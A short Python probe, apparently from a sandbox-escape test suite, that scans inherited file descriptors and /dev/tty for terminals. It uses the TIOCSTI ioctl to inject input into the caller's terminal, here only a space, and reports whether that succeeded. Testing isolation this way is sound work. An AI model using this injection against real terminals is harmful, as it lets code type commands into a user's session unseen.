"""Wants to type in the caller's terminal: TIOCSTI on every inherited descriptor and on /dev/tty."""

import contextlib
import fcntl
import os
import termios
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object]) -> dict[str, object]:
    descriptors = [int(name) for name in os.listdir("/proc/self/fd")]
    with contextlib.suppress(OSError):
        descriptors.append(os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY))
    injected, terminals = [], []
    ready({})
    for number in descriptors:
        with contextlib.suppress(OSError):
            if os.isatty(number):
                terminals.append(number)
                fcntl.ioctl(number, termios.TIOCSTI, b" ")
                injected.append(number)
    return {"escaped": bool(terminals), "detail": {"terminals": terminals, "injected": injected}}


if __name__ == "__main__":
    __import__("_common").command(attack)
